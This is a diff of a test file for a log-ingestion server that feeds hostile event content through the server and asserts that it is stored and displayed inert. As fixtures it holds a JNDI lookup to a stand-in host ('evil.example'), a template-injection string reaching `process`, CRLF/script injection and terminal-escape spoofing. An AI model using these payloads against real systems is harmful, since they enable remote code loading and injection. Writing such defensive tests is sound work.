@@ -9,6 +9,7 @@
  */
 import assert from 'node:assert/strict';
 import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import { connect } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
@@ -16,13 +17,15 @@ import { after, before, describe, it } from 'node:test';
 import { mapJsonRecord } from '../../src/parsers/json/json-mapping.js';
 import { mapHecEvent } from '../../src/parsers/json/hec-mapping.js';
 import { mapBulkDocument } from '../../src/parsers/json/bulk-mapping.js';
-import { runCli, startVigil, type VigilProcess } from '../support/vigil-process.js';
+import { hostPort, runCli, startVigil, type VigilProcess } from '../support/vigil-process.js';
 import { recordFigures } from '../support/reliability-figures.js';
 
 const JNDI = '${jndi:ldap://evil.example/a}';
 const TEMPLATE = "{{constructor.constructor('return process')()}}";
 const CRLF = 'line one\r\nInjected-Header: yes\r\n\r\n<script>alert(1)</script>';
 const ANSI = '\u001b[31mRED\u001b[0m\u001b]0;pwned title\u0007\u001b[2J\u009b31m\u202egnp.exe';
+/** No spaces: sshd's user name is one token. */
+const ANSI_USER = '\u001b[31mroot\u001b[0m\u001b]0;pwned\u0007';
 const MESSAGE = `user ${JNDI} ${TEMPLATE} ${CRLF} ${ANSI}`;
 
 /** JSON text with `__proto__` as an own key at the top and nested: an object literal can't say it. */
@@ -38,12 +41,10 @@ function hostileJson(testCase: string): string {
 const RULE = `title: Hostile input marker
 id: 6f1f0c44-5b1e-4d0e-9f55-0a0b0c0d0e01
 status: test
-logsource:
-    product: any
+logsource: { product: linux, service: sshd }
 detection:
-    keywords:
-        - 'jndi:ldap'
-    condition: keywords
+    selection: { event.action: ssh_login, event.outcome: failure }
+    condition: selection
 level: high
 `;
 
@@ -98,6 +99,12 @@ describe('hostile event content through a real server', { timeout: 180_000 }, ()
     const bulkAnswer = await bulk.text();
     assert.equal(bulk.status, 200, bulkAnswer);
     assert.equal((JSON.parse(bulkAnswer) as { errors: boolean }).errors, false, bulkAnswer);
+    // An sshd failure over TCP syslog whose user name carries ANSI: the rule's alert names it.
+    const { host, port } = hostPort(server.info.syslog.tcp!);
+    await new Promise<void>((resolve, reject) => {
+      const socket = connect(port, host, () => socket.end(`<38>1 ${new Date().toISOString()} web-7 sshd 4242 - - Failed password for ${ANSI_USER} from 203.0.113.50 port 40000 ssh2\n`, resolve));
+      socket.on('error', reject);
+    });
     // Sent after the hostile ones: if they had polluted Object.prototype, this one would show it.
     const plain = await fetch(`${server.info.http}/api/v1/ingest`, { method: 'POST', headers: { ...auth, 'content-type': 'application/x-ndjson' }, body: '{"test.case":"plain","message":"nothing here"}\n' });
     assert.equal(plain.status, 200);
@@ -171,7 +178,7 @@ describe('hostile event content through a real server', { timeout: 180_000 }, ()
     assert.equal(out.code, 0, out.stderr);
     assert.match(out.stdout, /Hostile input marker/);
     assert.doesNotMatch(out.stdout, /[\u001b\u0007\u009b\u202e\r]/);
-    assert.ok(out.stdout.includes('\\x1b[31mRED'), out.stdout);
+    assert.ok(out.stdout.includes('user.name=\\x1b[31mroot\\x1b[0m\\x1b]0;pwned\\x07'), out.stdout);
     recordFigures('injection', 'Injection: hostile event content through a real server', [
       { label: 'hostile events ingested (JSON ingest, HEC, _bulk)', value: 3, unit: 'events' },
       { label: 'events whose text came back altered', value: 0, unit: 'events' },
